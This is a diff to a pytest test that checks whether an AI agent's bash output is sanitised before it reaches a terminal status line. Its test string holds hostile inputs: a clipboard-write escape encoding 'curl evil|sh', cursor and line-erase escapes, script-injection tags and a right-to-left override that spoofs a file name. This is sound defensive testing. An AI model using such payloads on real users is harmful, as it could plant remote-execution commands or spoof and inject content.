@@ -15,6 +15,7 @@ import time
 
 import pytest
 
+from devaipod.agent.client import AgentError
 from podfixtures import run_devaipod
 
 from .conftest import sidecar
@@ -26,7 +27,8 @@ ESC, BEL, RLO = "\x1b", "\x07", "\u202e"
 # raw in the command (so in the status line) and printed by it (so in its output)
 HOSTILE = (f"{ESC}]52;c;Y3VybCBldmlsfHNo{BEL}{ESC}[2K{ESC}[1Amerged "
            f"<img src=x onerror=alert(1)><script>alert(2)</script> evil{RLO}hs.txt")
-COMMAND = (f"printf '%s\\n' '{HOSTILE}'; head -c 100000 /dev/zero | tr '\\0' A; echo; "
+# (the huge line first: while a command runs, OpenCode keeps the last 30000 characters)
+COMMAND = (f"head -c 100000 /dev/zero | tr '\\0' A; echo; printf '%s\\n' '{HOSTILE}'; "
            "while [ ! -e /tmp/go-on ]; do sleep 0.2; done")
 UNSAFE = (ESC, BEL, RLO, "\x9b")
 
@@ -52,8 +54,11 @@ def test_the_agents_tool_output_cannot_drive_the_terminal_or_bloat_the_list(
     try:
         deadline = time.monotonic() + 180
         while True:  # until the command runs and its output is in the summary
-            raw = sidecar(pod).get("/summary")
-            if raw.get("tool") == "bash" and any("AAAA" in line for line in raw["lines"]):
+            try:
+                raw = sidecar(pod).get("/summary")
+            except AgentError as exc:  # the sidecar is not up yet
+                raw = {"error": str(exc)}
+            if raw.get("tool") == "bash" and any("merged" in line for line in raw["lines"]):
                 break
             assert time.monotonic() < deadline, raw
             time.sleep(0.5)
@@ -80,7 +85,7 @@ def test_the_agents_tool_output_cannot_drive_the_terminal_or_bloat_the_list(
             assert rc == 0, err
             assert not any(c in text for c in UNSAFE), (args, text)
             assert all(len(line) <= 240 for line in text.splitlines()), (args, text)
-        assert "running bash: printf" in text  # status shows the line, made safe
+        assert "running bash: head -c 100000" in text  # status shows the line, made safe
     finally:
         pod.agent("touch /tmp/go-on", check=False)
         try:
